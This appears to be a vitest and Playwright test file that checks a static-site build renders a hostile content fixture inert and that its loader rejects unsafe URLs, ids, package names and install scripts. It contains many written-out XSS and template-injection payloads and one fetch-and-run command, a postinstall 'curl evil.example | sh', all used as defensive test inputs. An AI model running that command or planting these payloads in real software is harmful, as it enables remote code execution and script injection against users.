import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildSite } from "../../scripts/build-site.ts";
import { serveStatic, type StaticServer } from "../../scripts/lib/static-server.ts";
import { loadCatalog } from "../../src/content/catalog.ts";
import type { ContentProblem } from "../../src/content/problems.ts";
import { launchBrowser, strictPage } from "../support/browser-session.ts";
import { htmlFiles, readPage } from "../support/site.ts";
import { decodeEntities, startTags } from "./start-tags.ts";

/**
 * A content package whose every text tries to become markup, script or a template
 * (tests/fixtures/content/hostile/hostile/README.md). Payloads that would create an element carry
 * `data-hostile`; payloads that would run set `window.__pwned`; `{{ 1234 * 5678 }}` and its
 * cousins would print 7006652 if any template engine evaluated them.
 */
const root = path.resolve(import.meta.dirname, "../..");
const fixture = path.join(root, "tests/fixtures/content/hostile");
const EVALUATED = "7006652";
const PAIR = "hostile-markup";
const ARTICLE = "hostile-story";

let out: string;
let browser: Browser | undefined;
let server: StaticServer | undefined;

beforeAll(async () => {
  out = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "ilmitd-quality-hostile-")), "site");
  const result = await buildSite({ output: out, contentDir: fixture });
  if (!result.ok) throw new Error(`the hostile fixture must build (rendered inert), but the build stopped:\n${result.message}`);
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await server?.close();
  if (out) fs.rmSync(path.dirname(out), { recursive: true, force: true });
});

/** The text a reader sees in a built page: tags dropped, character references decoded. */
const visibleText = (html: string) => decodeEntities(html.replace(/<[^>]*>/g, ""));

/** Every file of the build that a browser or feed reader parses as text. */
function textFiles(): string[] {
  return fs
    .readdirSync(out, { recursive: true, encoding: "utf8" })
    .map((file) => file.split(path.sep).join("/"))
    .filter((file) => /\.(html|xml|json|webmanifest|txt)$/.test(file) && !file.startsWith("pagefind/"));
}

describe("hostile content in the built HTML", () => {
  it("adds no element, attribute or script to any page", () => {
    const injected: string[] = [];
    for (const file of htmlFiles(out)) {
      for (const tag of startTags(readPage(out, file))) {
        const where = `${file}: <${tag.name}>`;
        if (tag.attributes.has("data-hostile")) injected.push(`${where} with data-hostile`);
        if (["iframe", "object", "embed", "style", "frame", "base"].includes(tag.name)) injected.push(where);
        if (tag.name === "script" && !/^\/assets\/[\w./-]+\.js$/.test(tag.attributes.get("src") ?? "")) injected.push(`${where} src=${tag.attributes.get("src") ?? "(inline)"}`);
        for (const [name, value] of tag.attributes) {
          if (name.startsWith("on") || name === "style") injected.push(`${where} ${name}`);
          if (/^(href|src|action|formaction|xlink:href)$/.test(name) && /^(javascript|vbscript|data):/i.test(value.replace(/[\u0000-\u0020]/g, ""))) injected.push(`${where} ${name}=${value}`);
        }
      }
    }
    expect(injected).toEqual([]);
  });

  it("shows markup from every field as the text it is", () => {
    const pair = visibleText(readPage(out, `en/examples/${PAIR}/index.html`));
    expect(pair).toContain("<script>window.__pwned=1</script>");
    expect(pair).toContain("<b data-hostile>tags</b>");
    expect(pair).toContain("</li></ul><script>window.__pwned=1</script><ul><li data-hostile>Close the list early.");
    expect(pair).toContain("<style>body{display:none}</style>");
    const article = visibleText(readPage(out, `nl/articles/${ARTICLE}/index.html`));
    expect(article).toContain("<iframe data-hostile src=");
    expect(article).toContain("<img src=x data-hostile onerror=");
    expect(article).toContain("<!-- a comment that should not become one -->");
    const head = startTags(readPage(out, `en/articles/${ARTICLE}/index.html`).split("</head>")[0]!);
    const title = /<title>([^<]*)<\/title>/.exec(readPage(out, `en/articles/${ARTICLE}/index.html`))?.[1] ?? "";
    expect(decodeEntities(title)).toMatch(/^<script>window.__pwned=1<\/script> A story with "quotes" & \{\{ 1234 \* 5678 \}\}/);
    const meta = (name: string) => head.find((tag) => tag.name === "meta" && (tag.attributes.get("name") ?? tag.attributes.get("property")) === name)?.attributes.get("content");
    expect(meta("description")).toMatch(/^"><img src=x data-hostile onerror=window.__pwned=1> A summary/);
    expect(meta("og:title")).toMatch(/^<script>window.__pwned=1<\/script>/);
  });

  it("turns no javascript:, vbscript: or data: link into a link", () => {
    const links = (file: string) => startTags(readPage(out, file)).filter((tag) => tag.name === "a").map((tag) => tag.attributes.get("href") ?? "");
    for (const file of [`en/examples/${PAIR}/index.html`, `nl/examples/${PAIR}/index.html`, `en/articles/${ARTICLE}/index.html`]) {
      expect(links(file).filter((href) => !/^(\/|#|https:\/\/)/.test(href)), file).toEqual([]);
    }
    expect(visibleText(readPage(out, `en/articles/${ARTICLE}/index.html`))).toContain("[plain](javascript:window.__pwned=1)");
  });

  it("keeps the quotes of a link title inside its attribute", () => {
    const titled = startTags(readPage(out, `en/articles/${ARTICLE}/index.html`)).find((tag) => tag.name === "a" && tag.attributes.has("title"));
    expect(titled?.attributes.get("title")).toBe('x" onmouseover="window.__pwned=1');
    expect(titled?.attributes.has("onmouseover")).toBe(false);
  });

  it("never evaluates template syntax, in pages, feeds or data files", () => {
    const files = textFiles();
    expect(files.filter((file) => fs.readFileSync(path.join(out, file), "utf8").includes(EVALUATED))).toEqual([]);
    expect(visibleText(readPage(out, `en/examples/${PAIR}/index.html`))).toContain("{{ 1234 * 5678 }}, {% raw %}{{ 1234 * 5678 }}{% endraw %}");
    expect(visibleText(readPage(out, `nl/examples/${PAIR}/index.html`))).toContain("{% if true %}ja{% endif %}");
    expect(files.length).toBeGreaterThan(htmlFiles(out).length);
  });

  it("keeps odd Unicode exactly as written", () => {
    const pair = visibleText(readPage(out, `en/examples/${PAIR}/index.html`));
    for (const text of ["\u202Eevil override\u202C", "zero\u200Bwidth\u200Djoiners", "\u{1F469}\u200D\u{1F469}\u200D\u{1F467}", "Z\u0337\u0322a\u0335l\u0336g\u0338o", "\uFF1Cscript\uFF1E", "\u05E9\u05DC\u05D5\u05DD", "\u0645\u0631\u062D\u0628\u0627", "line\u2028and\u2029paragraph"]) {
      expect(pair, JSON.stringify(text)).toContain(text);
    }
  });

  it("escapes markup in the feeds, which readers parse as XML and JSON", () => {
    for (const lang of ["en", "nl"]) {
      const atom = path.join(out, `${lang}/feed.xml`);
      if (fs.existsSync(atom)) expect(fs.readFileSync(atom, "utf8")).not.toMatch(/<(script|img|svg|iframe|style)\b/i);
      const json = path.join(out, `${lang}/feed.json`);
      if (fs.existsSync(json)) expect(JSON.stringify(JSON.parse(fs.readFileSync(json, "utf8")))).toContain("<script>window.__pwned=1</script>");
    }
  });
});

describe("hostile content in Chromium", () => {
  /** Opens a page and reports what the payloads achieved: elements made, code run, policy violations. */
  async function visit(page: Page, problems: string[], url: string) {
    await page.goto(url);
    return {
      injected: await page.locator("[data-hostile]").count(),
      pwned: await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned),
      problems: [...problems],
    };
  }

  beforeAll(async () => {
    server = await serveStatic(out);
    browser = await launchBrowser();
  });

  it("runs nothing and builds no element on the pages that show it", async () => {
    const context = await browser!.newContext();
    const { page, problems } = await strictPage(context);
    for (const file of [`en/examples/${PAIR}/`, `nl/examples/${PAIR}/`, `en/articles/${ARTICLE}/`, `nl/articles/${ARTICLE}/`, "en/examples/", "en/packages/", "nl/packages/", "en/themes/service-desk/", "en/articles/"]) {
      expect(await visit(page, problems, server!.url + file), file).toEqual({ injected: 0, pwned: undefined, problems: [] });
    }
    await context.close();
  });

  it("fits a 320 pixel wide screen with a 280 character word, without scrolling sideways", async () => {
    const context = await browser!.newContext({ viewport: { width: 320, height: 640 } });
    const page = await context.newPage();
    for (const file of [`en/examples/${PAIR}/`, `en/articles/${ARTICLE}/`]) {
      await page.goto(server!.url + file);
      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
      expect(overflow, file).toBeLessThanOrEqual(0);
    }
    await context.close();
  });

  it("shows search results for it as text, on the search page and in the dialog", async () => {
    const context = await browser!.newContext();
    const { page, problems } = await strictPage(context);
    await page.goto(`${server!.url}en/search/?q=pwned`);
    const results = page.locator("[data-search-page] [data-search-results] li");
    await results.first().waitFor({ timeout: 15_000 }).catch(() => {
      throw new Error("the search page showed no result for ?q=pwned: search (src/client/search-page.ts) must run the query from the URL and list results in [data-search-results]");
    });
    const titles = await page.locator("[data-search-page] [data-search-results] li a").allTextContents();
    expect(titles.some((title) => title.includes("<script>window.__pwned=1</script>"))).toBe(true);
    expect(await page.locator("[data-hostile]").count()).toBe(0);

    await page.goto(`${server!.url}en/examples/${PAIR}/`);
    await page.keyboard.press("/");
    const input = page.locator("dialog[open] [data-search-input]");
    await input.waitFor({ timeout: 15_000 }).catch(() => {
      throw new Error("the `/` key opened no search dialog (dialog[open] with [data-search-input])");
    });
    await input.fill("pwned");
    await page.locator("dialog[open] [data-search-results] li").first().waitFor({ timeout: 15_000 });
    expect(await page.locator("dialog[open] [data-search-results]").textContent()).toContain("<script>");
    expect(await page.locator("[data-hostile]").count()).toBe(0);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
    expect(problems).toEqual([]);
    await context.close();
  });
});

describe("hostile content the build refuses", () => {
  /** Loads a copy of the hostile package with one text replaced, and returns what the loader says. */
  function loadWith(file: string, find: string, replace: string): ContentProblem[] {
    const copy = fs.mkdtempSync(path.join(os.tmpdir(), "ilmitd-quality-hostile-refused-"));
    try {
      fs.cpSync(fixture, copy, { recursive: true });
      const target = path.join(copy, "hostile", file);
      const text = fs.readFileSync(target, "utf8");
      expect(text, `${file} holds ${find}`).toContain(find);
      fs.writeFileSync(target, text.replace(find, replace));
      const result = loadCatalog({ root, contentDir: copy });
      return result.ok ? [] : result.problems.items.map((problem) => ({ ...problem, file: problem.file.slice(problem.file.indexOf("hostile/")) }));
    } finally {
      fs.rmSync(copy, { recursive: true, force: true });
    }
  }

  it("rejects a source URL that would run script, naming the file and field", () => {
    expect(loadWith("pairs.yaml", 'url: "https://example.org/search', 'url: "javascript:window.__pwned=1;//')).toEqual(
      expect.arrayContaining([expect.objectContaining({ file: "hostile/pairs.yaml", field: "[0].sources[0].url", message: expect.stringContaining("http(s) URL") })]),
    );
  });

  it("rejects markup in an id, which would end up in URLs and HTML ids", () => {
    expect(loadWith("pairs.yaml", "- id: hostile-markup", '- id: "hostile-markup\\"><script>"')).toEqual(
      expect.arrayContaining([expect.objectContaining({ file: "hostile/pairs.yaml", field: "[0].id", message: expect.stringContaining("lowercase letters and digits") })]),
    );
  });

  it("rejects markup in a package name, which the packages page and search filters show", () => {
    expect(loadWith("package.json", '"name": "@fixtures/hostile"', '"name": "<script>x</script>"')).toEqual([
      expect.objectContaining({ file: "hostile/package.json", field: "name", message: expect.stringContaining("npm package name") }),
    ]);
  });

  it("rejects a package that asks to run code when it is installed", () => {
    expect(loadWith("package.json", '"private": true,', '"private": true, "scripts": { "postinstall": "curl evil.example | sh" },')).toEqual([
      expect.objectContaining({ file: "hostile/package.json", field: "scripts", message: expect.stringContaining("install scripts") }),
    ]);
  });
});
